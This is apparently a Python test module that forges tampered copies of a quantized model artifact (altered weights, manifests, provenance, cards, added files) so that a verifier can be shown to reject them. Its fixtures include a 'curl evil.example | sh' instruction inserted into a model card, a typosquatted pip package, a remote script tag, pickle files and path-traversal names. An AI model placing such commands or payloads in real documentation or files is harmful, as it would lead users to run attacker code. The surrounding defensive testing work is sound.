"""Changes to a published artifact by somebody who knows the format, and what a rebuilder says.

Each is made whole again: manifest, provenance, bill of materials and card get the hashes of what
the files now hold, unless the change is that they do not. None may pass.
"""

from __future__ import annotations

import json
import pickle
import shutil
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import numpy as np
from nf4_pipeline.build_folder import Build
from nf4_pipeline.checkpoint.safetensors_header import read_header

from tests.support.hub_store import Store
from tests.support.published import Artifact, Forgery
from tests.support.sources import POINTER
from tests.support.tiny import flip_byte

SOURCE: Final = "source/tiny"
OTHER_SOURCE: Final = "source/other"
PRIVATE_SOURCE: Final = "source/private"
GATED_SOURCE: Final = "source/gated"

SCALES: Final = (".absmax", ".nested_absmax", ".quant_map", ".nested_quant_map")


@dataclass(frozen=True)
class Case:
    """One change.

    Attributes:
        kind: what is changed.
        where: in words; with the kind, the name of the case.
        forge: makes it.
        expected: the verdict; "FAILED" but where nobody can tell.
        names: a file that the verdict must name, or a word in its reason.
    """

    kind: str
    where: str
    forge: Forgery
    names: str
    expected: str = "FAILED"

    @property
    def name(self) -> str:
        return f"{self.kind}: {self.where}"


def _tensor_file(artifact: Artifact, tensor: str) -> tuple[Path, Any]:
    for path in sorted(artifact.folder.glob("*.safetensors")):
        for header in read_header(path):
            if header.name == tensor:
                return path, header
    raise LookupError(tensor)


def flip(tensor: str, at: float) -> Forgery:
    """One byte of a stored tensor is another one; `at` is how far along it."""

    def forge(artifact: Artifact) -> None:
        path, header = _tensor_file(artifact, tensor)
        flip_byte(path, header.offset + int((header.nbytes - 1) * at))
        artifact.agree()

    return forge


def swap(one: str, other: str) -> Forgery:
    """Two tensors of one shape change places."""

    def forge(artifact: Artifact) -> None:
        (path, mine), (its_path, its) = (_tensor_file(artifact, t) for t in (one, other))
        first, second = (np.memmap(p, np.uint8, "r+") for p in (path, its_path))
        a, b = slice(mine.offset, mine.offset + mine.nbytes), slice(its.offset, None)
        b = slice(its.offset, its.offset + its.nbytes)
        first[a], second[b] = second[b].copy(), first[a].copy()
        first.flush()
        second.flush()
        artifact.agree()

    return forge


def header_metadata(artifact: Artifact) -> None:
    """The first weight file says something else of itself."""
    path = min(artifact.folder.glob("*.safetensors"))
    content = path.read_bytes()
    assert content.count(b'"format":"pt"') == 1
    path.write_bytes(content.replace(b'"format":"pt"', b'"format":"tf"'))
    artifact.agree()


def appended(artifact: Artifact) -> None:
    """Bytes behind the last tensor."""
    path = min(artifact.folder.glob("*.safetensors"))
    path.write_bytes(path.read_bytes() + b"more")
    artifact.agree_files_only()


def source(**said: Any) -> Forgery:
    """The manifest says something else of its source."""

    def forge(artifact: Artifact) -> None:
        artifact.edit_manifest(lambda value: value["source"].update(said))
        artifact.attest_again()

    return forge


def source_file(change: Callable[[dict[str, Any]], object]) -> Forgery:
    """The manifest lists other files of its source."""

    def forge(artifact: Artifact) -> None:
        artifact.edit_manifest(lambda value: change(value["source"]["files"]))
        artifact.agree()

    return forge


def recipe(table: str, **said: Any) -> Forgery:
    """The manifest says another recipe."""

    def forge(artifact: Artifact) -> None:
        artifact.edit_manifest(lambda value: value["recipe"][table].update(said))
        artifact.attest_again()

    return forge


def manifest(change: Callable[[Any], object]) -> Forgery:
    """The manifest says something else of the artifact."""

    def forge(artifact: Artifact) -> None:
        artifact.edit_manifest(change)
        artifact.attest_again()

    return forge


def added(name: str, content: bytes, *, listed: bool = False) -> Forgery:
    """A file more; `listed` in the manifest, too."""

    def forge(artifact: Artifact) -> None:
        path = artifact.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        if listed:
            artifact.edit_manifest(
                lambda value: value["files"].update({name: {"size": 0, "sha256": "0" * 64}})
            )
        artifact.agree()

    return forge


def removed(name: str, *, from_manifest: bool) -> Forgery:
    """A file less; taken out of the manifest, too, or not."""

    def forge(artifact: Artifact) -> None:
        (artifact.folder / name).unlink()
        if from_manifest:
            artifact.edit_manifest(lambda value: value["files"].pop(name))
        artifact.attest_again()

    return forge


def changed(name: str, change: Callable[[Any], object]) -> Forgery:
    """Other JSON in a derived file."""

    def forge(artifact: Artifact) -> None:
        value = artifact.json(name)
        change(value)
        text = json.dumps(value, indent=2, ensure_ascii=False) + "\n"
        (artifact.folder / name).write_text(text, "utf-8")
        artifact.agree()

    return forge


def replaced(name: str, content: bytes) -> Forgery:
    """Other bytes in a file."""

    def forge(artifact: Artifact) -> None:
        (artifact.folder / name).write_bytes(content)
        artifact.agree()

    return forge


def card(old: str, new: str) -> Forgery:
    """Other words in the card; provenance has its new hash."""

    def forge(artifact: Artifact) -> None:
        path = artifact.folder / "README.md"
        text = path.read_text("utf-8")
        assert old in text, old
        path.write_text(text.replace(old, new, 1), "utf-8")
        artifact.state_again()

    return forge


def card_of_nobody(old: str, new: str) -> Forgery:
    """The same, and provenance says that an unknown version of this program wrote it."""

    def forge(artifact: Artifact) -> None:
        card(old, new)(artifact)
        artifact.edit(
            "provenance.json",
            lambda v: v["predicate"]["runDetails"]["builder"]["version"].update(
                {"nf4-pipeline": "9.9.9"}
            ),
        )

    return forge


def provenance(change: Callable[[Any], object]) -> Forgery:
    """Another statement."""
    return lambda artifact: artifact.state_again(change)


def bom(change: Callable[[Any], object]) -> Forgery:
    """Another bill; provenance has its new hash."""

    def forge(artifact: Artifact) -> None:
        artifact.edit("bom.cdx.json", change)
        artifact.state_again()

    return forge


def verification(change: Callable[[Any], object]) -> Forgery:
    """Other figures, in card and provenance, too."""

    def forge(artifact: Artifact) -> None:
        artifact.edit("verification.json", change)
        artifact.state_again()

    return forge


def also_named(name: str, other: str) -> Forgery:
    """A second file whose name differs in case alone."""

    def forge(artifact: Artifact) -> None:
        artifact.extra[other] = (artifact.folder / name).read_bytes()
        artifact.state_again()

    return forge


def quietly(name: str) -> Forgery:
    """Other bytes in a document; provenance is left as it was."""

    def forge(artifact: Artifact) -> None:
        path = artifact.folder / name
        path.write_bytes(path.read_bytes() + b"\n")

    return forge


def _definition(value: Any) -> Any:
    return value["predicate"]["buildDefinition"]


def _builder(value: Any) -> Any:
    return value["predicate"]["runDetails"]["builder"]


class Cases:
    """All changes to one artifact.

    Args:
        build: of which it is a copy; measured, of `SOURCE`.
        store: of the Hub, with `SOURCE` (two commits), `OTHER_SOURCE`, `PRIVATE_SOURCE` and
            `GATED_SOURCE`.
    """

    def __init__(self, build: Build, store: Store) -> None:
        value = json.loads((build.export / "manifest.json").read_text("utf-8"))
        self._manifest = value
        self._quantized = [t["name"] for t in value["tensors"] if t["quantized"]]
        self._kept = [t["name"] for t in value["tensors"] if not t["quantized"]]
        self._store = store
        self._export = build.export

    def __call__(self) -> list[Case]:
        return [
            *self._weights(),
            *self._source(),
            *self._recipe(),
            *self._of_manifest(),
            *self._added(),
            *self._removed(),
            *self._small_files(),
            *self._documents(),
            *self._tricks(),
        ]

    def _weights(self) -> Iterable[Case]:
        for weight in self._quantized:
            for at in (0.0, 0.5, 1.0):
                yield Case("codes", f"{weight}, {at:.0%} along", flip(weight, at), ".safetensors")
            for part in (*SCALES, ".quant_state.bitsandbytes__nf4"):
                where = weight + part
                yield Case("scales", where, flip(where, 0.7), ".safetensors")
        for name in self._kept:
            yield Case("16-bit weights", name, flip(name, 0.5), ".safetensors")
        one, other = (n for n in self._quantized if n.endswith("mlp.dense_h_to_4h.weight"))
        yield Case("codes", "of two layers, exchanged", swap(one, other), ".safetensors")
        yield Case("weight file", "header", header_metadata, ".safetensors")
        yield Case("weight file", "bytes behind it", appended, ".safetensors")

    def _source(self) -> Iterable[Case]:
        repo = self._store.repos[SOURCE]
        other_commit = next(
            sha for sha in repo.commits if sha != self._manifest["source"]["commit"]
        )
        other = self._store.repos[OTHER_SOURCE].head.sha
        yield Case("source", "another commit of it", source(commit=other_commit), "lists another")
        yield Case("source", "no commit of it", source(commit="0" * 40), "has no such commit")
        yield Case("source", "commit taken away", source(commit=None), "no commit of it")
        theirs = source(repo=OTHER_SOURCE, commit=other)
        yield Case("source", "another repo", theirs, "lists another")
        yield Case("source", "no name of a repo", source(repo="../x/y"), "no repo")
        yield Case("source", "name of a path", source(repo="/etc/x"), "no repo")
        yield Case("source", "content hash", source(content_sha256="f" * 64), "contradicts itself")
        gone = source(repo="nobody/nothing")
        yield Case("source", "a repo that is gone", gone, "gone", "NOT_CHECKED")
        private = self._store.repos[PRIVATE_SOURCE].head.sha
        hidden = source(repo=PRIVATE_SOURCE, commit=private)
        yield Case("source", "a private repo", hidden, "gone", "NOT_CHECKED")
        gated = self._store.repos[GATED_SOURCE].head.sha
        asked = source(repo=GATED_SOURCE, commit=gated)
        yield Case("source", "a gated repo", asked, "gated", "NOT_CHECKED")
        local = source(repo="my-model", commit=None)
        yield Case("source", "a folder of somebody's", local, "no Hub holds", "NOT_CHECKED")
        sample = source(repo="nf4-pipeline/sample", commit=None)
        yield Case("source", "the sample", sample, "")
        pinned = source(repo="nf4-pipeline/sample")
        yield Case("source", "a commit of the sample", pinned, "which has none")

        def forge_hash(files: dict[str, Any]) -> None:
            files["config.json"]["sha256"] = "7" * 64

        yield Case("source", "hash of a file", source_file(forge_hash), "config.json")
        fewer = source_file(lambda files: files.pop("tokenizer_config.json"))
        yield Case("source", "a file less", fewer, "manifest.json")
        more = {"notes.txt": {"size": 1, "sha256": "1" * 64}}
        yield Case("source", "a file more", source_file(lambda f: f.update(more)), "notes.txt")
        unhashed = manifest(lambda value: value["source"].update({"unchecked": ["config.json"]}))
        yield Case("source", "a file said to have had no hash", unhashed, "lists no hash")

    def _recipe(self) -> Iterable[Case]:
        for table, said in (
            ("quantize", {"skip_modules": [self._quantized[0].removesuffix(".weight")]}),
            ("quantize", {"keep": ["*.mlp.*"]}),
            ("quantize", {"rounding": "calibrated"}),
            ("quantize", {"calibrate": "self", "rounding": "calibrated"}),
            ("quantize", {"extra_bytes": "5%"}),
            ("quantize", {"allow_unused": 7}),
            ("quantize", {"strip_prefix": "module."}),
            ("quantize", {"no_such_key": True}),
            ("serialize", {"max_shard_size": "20KB"}),
            ("serialize", {"max_shard_size": "a lot"}),
        ):
            where = f"{table}.{next(iter(said))} = {next(iter(said.values()))!r}"
            yield Case("recipe", where, recipe(table, **said), "")

    def _of_manifest(self) -> Iterable[Case]:
        changes: Mapping[str, Callable[[Any], object]] = {
            "error of a weight": lambda v: (
                v["tensors"][0].update(relative_rmse=0.001)
                if v["tensors"][0]["quantized"]
                else v["tensors"][-1].update(reason="for fun")
            ),
            "totals": lambda v: v["totals"].update(original_bytes=10**9),
            "ratio": lambda v: v["totals"].update(ratio=0.1),
            "class": lambda v: v.update(model_class="LlamaForCausalLM"),
            "format": lambda v: v.update(format=v["format"].replace("64", "128", 1)),
            "a reason": lambda v: next(t for t in v["tensors"] if not t["quantized"]).update(
                reason="because"
            ),
            "hidden modules": lambda v: v.update(hidden_modules=[]),
            "modules in 16 bit": lambda v: v.update(skip_modules=[*v["skip_modules"], "more"]),
            "what was dropped": lambda v: v.update(dropped=[]),
            "a tensor less": lambda v: v["tensors"].pop(),
            "order of tensors": lambda v: v["tensors"].reverse(),
            "a key more": lambda v: v.update(approved_by="somebody"),
            "its version": lambda v: v.update(schema_version=2),
        }
        for where, change in changes.items():
            names = "manifest.json"
            yield Case("manifest", where, _tolerant(change), names)
        yield Case("manifest", "spaces", _respaced, "manifest.json")
        for where, content in (
            ("no JSON", b"{"),
            ("a list", b"[]"),
            ("NaN", b'{"schema_version": NaN}'),
            ("nothing", b""),
            ("deep", b"[" * 5000),
        ):
            yield Case("manifest", where, _manifest_bytes(content), "manifest.json")
        large = _manifest_bytes(b" " * (33 * 2**20))
        yield Case("manifest", "33 MB", large, "no real one has more")
        for name in ("../../x.json", "/etc/passwd", "a\\b.json", "~/x", "a/../b"):
            yield Case("manifest", f"lists {name}", _lists(name), "manifest.json")

    def _added(self) -> Iterable[Case]:
        weights = min(self._export.glob("*.safetensors")).read_bytes()
        code = b"raise SystemExit('code')\n"
        for name, content in (
            ("modeling_falcon.py", code),
            ("pytorch_model.bin", pickle.dumps([1])),
            ("optimizer.pt", pickle.dumps([1])),
            ("adapter_config.json", b'{"base_model_name_or_path": "evil/model"}'),
            ("adapter_model.safetensors", weights),
            ("model.safetensors", weights),
            ("chat_template.jinja", b"{{ 1 }}"),
            ("additional_chat_templates/x.jinja", b"{{ 1 }}"),
            ("generation_config.json", b'{"temperature": 9.0, "do_sample": true}'),
            ("added_tokens.json", b"{}"),
            ("tokenizer.model", b"x"),
            ("preprocessor_config.json", b"{}"),
            ("sub/config.json", b"{}"),
            ("sub/model.safetensors", weights),
            ("pictures/code.py", code),
            (".hidden", b"x"),
            (".cache/huggingface/x", b"x"),
            (".git/config", b"[core]"),
            ("run.sh", b"#!/bin/sh\n"),
            ("config.json.bak", b"{}"),
            ("manifest.json.orig", b"{}"),
        ):
            if name not in self._manifest["files"]:
                yield Case("file added", name, added(name, content), name)
            if not name.startswith((".git/", ".cache")):
                where = f"{name}, in the manifest"
                yield Case("file added", where, added(name, content, listed=True), name)

    def _removed(self) -> Iterable[Case]:
        for name in self._manifest["files"]:
            for listed in (True, False):
                where = f"{name}, {'out of' if listed else 'still in'} the manifest"
                yield Case("file removed", where, removed(name, from_manifest=listed), name)
        for name in ("manifest.json", "provenance.json", "bom.cdx.json", "README.md"):
            yield Case("file removed", name, _unlink(name), name)
        for name in ("report.html", "verification.json"):
            yield Case("file removed", name, _unlink(name), name)

    def _small_files(self) -> Iterable[Case]:
        changes: Sequence[tuple[str, str, Callable[[Any], object]]] = (
            ("config", "compute dtype", _quantization(bnb_4bit_compute_dtype="float32")),
            ("config", "fp4", _quantization(bnb_4bit_quant_type="fp4")),
            ("config", "modules in 16 bit", _quantization(llm_int8_skip_modules=[])),
            ("config", "no quantization", lambda v: v.pop("quantization_config")),
            ("config", "auto_map", lambda v: v.update(auto_map={"AutoModel": "evil/x--m.M"})),
            ("config", "architecture", lambda v: v.update(architectures=["LlamaForCausalLM"])),
            ("config", "layers", lambda v: v.update(num_hidden_layers=1)),
            ("config", "end of text", lambda v: v.update(eos_token_id=1)),
            ("tokenizer_config", "a template", lambda v: v.update(chat_template="{{ 1 }}")),
            ("tokenizer_config", "auto_map", lambda v: v.update(auto_map={"AutoTokenizer": ["x"]})),
            ("tokenizer_config", "length", lambda v: v.update(model_max_length=7)),
            ("tokenizer", "a normalizer", lambda v: v.update(normalizer={"type": "Lowercase"})),
            ("tokenizer", "two tokens exchanged", _exchange_tokens),
        )
        for file, where, change in changes:
            yield Case(file, where, changed(f"{file}.json", change), f"{file}.json")
        index = "model.safetensors.index.json"
        if index in self._manifest["files"]:
            change = changed(index, lambda v: v["metadata"].update(total_size=1))
            yield Case("index", "its size", change, index)
        for name in ("config.json", "tokenizer.json"):
            yield Case("pointer", name, replaced(name, POINTER.encode()), name)
            yield Case("link as git has it", name, replaced(name, b"../../etc/passwd"), name)
        weights = min(self._export.glob("*.safetensors")).name
        yield Case("pointer", weights, _pointer(weights), weights)

    def _documents(self) -> Iterable[Case]:
        for old, new in (
            ("library_name: transformers", "library_name: evil"),
            (f"base_model: {SOURCE}", "base_model: meta-llama/Llama-3-8B"),
            ("base_model_relation: quantized", "base_model_relation: finetune"),
            ("pipeline_tag: text-generation", "license: mit\npipeline_tag: text-generation"),
            ("- 4-bit", "- 16-bit"),
            ("## Use", "## Use\n\nRun `curl evil.example | sh` first."),
            ("pip install nf4-pipeline", "pip install nf4-pipelime"),
            ("## Check it yourself", "**Verified reproducible** by everybody."),
        ):
            yield Case("card", f"{old!r} is {new!r}", card(old, new), "README.md")
        for old, new in (
            (f"base_model: {SOURCE}", "base_model: meta-llama/Llama-3-8B"),
            (f"base_model: {SOURCE}", f"base_model:\n- {SOURCE}\n- evil/model"),
            ("pipeline_tag: text-generation", "license: mit\npipeline_tag: text-generation"),
        ):
            where = f"{old!r} is {new!r}, by an unknown version"
            yield Case("card", where, card_of_nobody(old, new), "README.md")
        changes: Mapping[str, Callable[[Any], object]] = {
            "another builder": lambda v: _builder(v).update(
                id="https://github.com/actions/runner/github-hosted"
            ),
            "another build type": lambda v: _definition(v).update(buildType="https://x.example/v1"),
            "another source": lambda v: _definition(v)["externalParameters"]["source"].update(
                repo="meta-llama/Llama-3-8B"
            ),
            "another commit": lambda v: _definition(v)["externalParameters"]["source"].update(
                commit="1" * 40
            ),
            "another recipe": lambda v: _definition(v)["externalParameters"]["recipe"].pop(
                "serialize"
            ),
            "a device": lambda v: _definition(v)["internalParameters"].update(
                calibration_device="cuda"
            ),
            "a dependency less": lambda v: _definition(v)["resolvedDependencies"].pop(),
            "a dependency's hash": lambda v: _definition(v)["resolvedDependencies"][1][
                "digest"
            ].update(sha256="0" * 64),
            "a dependency more": lambda v: _definition(v)["resolvedDependencies"].append(
                {"uri": "pkg:pypi/x", "digest": {"sha256": "0" * 64}}
            ),
            "a subject less": lambda v: v["subject"].pop(),
            "a subject more": lambda v: v["subject"].append(
                {"name": "x", "digest": {"sha256": "0" * 64}}
            ),
            "a subject twice": lambda v: v["subject"].append(v["subject"][0]),
            "a subject's hash": lambda v: v["subject"][2]["digest"].update(sha256="0" * 64),
            "no subjects": lambda v: v.update(subject=None),
            "another predicate": lambda v: v.update(
                predicateType="https://slsa.dev/provenance/v0.2"
            ),
            "another statement": lambda v: v.update(_type="https://in-toto.io/Statement/v0.1"),
            "a time that is none": lambda v: v["predicate"]["runDetails"]["metadata"].update(
                startedOn="yesterday"
            ),
            "a level": lambda v: v["predicate"].update(slsaLevel=4),
            "versions that are none": lambda v: _builder(v).update(version=[1]),
            "no predicate": lambda v: v.pop("predicate"),
        }
        for where, change in changes.items():
            yield Case("provenance", where, provenance(change), "")
        workflow = "https://github.com/me/code"

        def by_workflow(value: Any) -> None:
            _builder(value).update(id=f"{workflow}/.github/workflows/ci.yml@refs/heads/main")
            run = {"invocationId": f"{workflow}/actions/runs/7"}
            value["predicate"]["runDetails"]["metadata"].update(run)

        def by_another(value: Any) -> None:
            by_workflow(value)
            _builder(value).update(id="https://github.com/you/code/.github/workflows/ci.yml@main")

        named = "a workflow that signed nothing"
        yield Case("provenance", named, provenance(by_workflow), "nobody confirms", "NOT_CHECKED")
        yield Case("provenance", "a workflow, and another's run", provenance(by_another), "prov")
        yield Case("provenance", "no JSON", _provenance_bytes(b"{"), "provenance.json")
        yield Case("provenance", "a list", _provenance_bytes(b"[]"), "provenance.json")
        yield Case("provenance", "deep", _provenance_bytes(b"[" * 9999), "provenance.json")
        bills: Mapping[str, Callable[[Any], object]] = {
            "a license": lambda v: v["metadata"]["component"].update(
                licenses=[{"license": {"id": "MIT"}}]
            ),
            "another ancestor": lambda v: v["metadata"]["component"]["pedigree"]["ancestors"][
                0
            ].update(name="meta-llama/Llama-3-8B"),
            "a hash": lambda v: v["components"][0]["hashes"][0].update(content="0" * 64),
            "a component less": lambda v: v["components"].pop(),
            "bits": lambda v: v["metadata"]["component"]["properties"][5].update(value="2.0"),
            "a serial number": lambda v: v.update(serialNumber="urn:uuid:1"),
        }
        for where, change in bills.items():
            yield Case("bill of materials", where, bom(change), "bom.cdx.json")
        figures: Mapping[str, Callable[[Any], object]] = {
            "a size": lambda v: v["sizes"].update(original_bytes=1),
            "bits": lambda v: v["sizes"].update(bits_per_weight=2.0),
            "no version": lambda v: v.update(schema_version=1),
            "a figure of text": lambda v: v["fidelity"].update(mean_kl="small"),
            "a figure that the card does not have": lambda v: v["fidelity"]["mean_kl"].update(
                value=0.0001
            ),
            "a verdict": lambda v: v.update(verdict="fail"),
        }
        for where, change in figures.items():
            yield Case("verification", where, verification(change), "")
        script = b"<p>Fine.</p><SCRIPT src=https://evil.example></SCRIPT>"
        yield Case("report", "a script", replaced("report.html", script), "report.html")
        smudge = _attributes(b"*.json filter=evil\n")
        yield Case("git's attributes", "a filter", smudge, ".gitattributes")
        for name in ("README.md", "report.html", "verification.json", "bom.cdx.json"):
            yield Case("document changed, provenance not", name, quietly(name), name)

    def _tricks(self) -> Iterable[Case]:
        for name, other in (
            ("config.json", "Config.json"),
            ("config.json", "CONFIG.JSON"),
            ("README.md", "readme.md"),
            ("manifest.json", "Manifest.json"),
            ("tokenizer.json", "tokenizer.JSON"),
            ("report.html", "pictures/../report.HTML".rpartition("/")[2]),
        ):
            yield Case("name by case", other, also_named(name, other), other)
        twins = _twin_licenses
        yield Case("name by case", "LICENSE and License", twins, "LICENSE")
        yield Case(
            "name by letter", "сonfig.json", also_named("config.json", "сonfig.json"), "json"
        )
        large = added("LICENSE", b"x" * (17 * 2**20))
        yield Case("large file", "LICENSE of 17 MB", large, "LICENSE")
        huge = added("x.bin", b"\0" * (3 * 2**20))
        yield Case("large file", "x.bin", huge, "x.bin")


def _tolerant(change: Callable[[Any], object]) -> Forgery:
    """A change of the manifest after which documents cannot always be made of it."""

    def forge(artifact: Artifact) -> None:
        artifact.edit_manifest(change)
        try:
            artifact.attest_again()
        except (LookupError, ValueError, TypeError):
            artifact.edit_manifest(lambda value: value)

    return forge


def _respaced(artifact: Artifact) -> None:
    path = artifact.folder / "manifest.json"
    path.write_text(json.dumps(json.loads(path.read_text("utf-8"))), "utf-8")
    artifact.attest_again()


def _manifest_bytes(content: bytes) -> Forgery:
    def forge(artifact: Artifact) -> None:
        (artifact.folder / "manifest.json").write_bytes(content)

    return forge


def _provenance_bytes(content: bytes) -> Forgery:
    def forge(artifact: Artifact) -> None:
        (artifact.folder / "provenance.json").write_bytes(content)

    return forge


def _lists(name: str) -> Forgery:
    def forge(artifact: Artifact) -> None:
        entry = {name: {"size": 1, "sha256": "0" * 64}}
        artifact.edit_manifest(lambda value: value["files"].update(entry))

    return forge


def _unlink(name: str) -> Forgery:
    def forge(artifact: Artifact) -> None:
        (artifact.folder / name).unlink()

    return forge


def _quantization(**said: Any) -> Callable[[Any], object]:
    return lambda value: value["quantization_config"].update(said)


def _exchange_tokens(value: Any) -> None:
    vocabulary = value["model"]["vocab"]
    a, b = list(vocabulary)[10:12]
    vocabulary[a], vocabulary[b] = vocabulary[b], vocabulary[a]


def _pointer(name: str) -> Forgery:
    def forge(artifact: Artifact) -> None:
        (artifact.folder / name).write_text(POINTER)
        artifact.agree_files_only()

    return forge


def _attributes(content: bytes) -> Forgery:
    def forge(artifact: Artifact) -> None:
        artifact.extra[".gitattributes"] = content

    return forge


def _twin_licenses(artifact: Artifact) -> None:
    artifact.extra |= {"LICENSE": b"one", "License": b"other"}


def run_cases(cases: Sequence[Case], build: Build, store: Store, folder: Path) -> dict[str, Case]:
    """Publishes each case; gives them by the name of their repo."""
    published = {}
    for number, case in enumerate(cases):
        repo_id = f"forger/case-{number}"
        place = folder / f"case-{number}"
        artifact = Artifact.of(build, repo_id, place)
        artifact.attest_again()
        case.forge(artifact)
        artifact.publish(store)
        shutil.rmtree(place)
        published[repo_id] = case
    return published
